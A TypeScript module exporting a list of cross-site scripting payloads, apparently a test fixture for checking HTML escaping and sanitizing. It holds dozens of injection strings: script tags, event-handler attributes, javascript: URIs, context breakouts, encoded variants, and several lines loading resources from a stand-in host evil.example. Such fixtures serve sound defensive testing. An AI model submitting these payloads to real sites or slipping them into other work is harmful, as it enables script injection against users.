/** Texts that run a script when a page writes them unescaped, or in the wrong context. */
export const payloads = String.raw`
<script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</option></select><img src=x onerror=alert(1)>
</pre><img src=x onerror=alert(1)>
</svg><img src=x onerror=alert(1)>
</code></pre><svg onload=alert(1)>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<img/src=x/onerror=alert(1)>
<IMG SRC=x ONERROR=alert(1)>
<img src=x onerror=alert&lpar;1&rpar;>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<body onload=alert(1)>
<iframe src="javascript:alert(1)">
<iframe srcdoc="<script>alert(1)</script>">
<object data="javascript:alert(1)">
<embed src="javascript:alert(1)">
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel=stylesheet href="https://evil.example/x.css">
<style>@import 'https://evil.example/x.css';</style>
<div style="background:url(https://evil.example/x.png)">
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<math><mtext></table><img src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus="alert(1)
x" data-live="1" data-copy="#x
javascript:alert(1)
JaVaScRiPt:alert(1)
java script:alert(1)
data:text/html,<script>alert(1)</script>
vbscript:msgbox(1)
//evil.example/x.js
[x](javascript:alert(1))
![x](https://evil.example/x.png)
<https://evil.example/><script>alert(1)</script>
**<img src=x onerror=alert(1)>**
{{constructor.constructor('alert(1)')()}}
#{alert(1)}
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
`
  .trim()
  .split('\n')
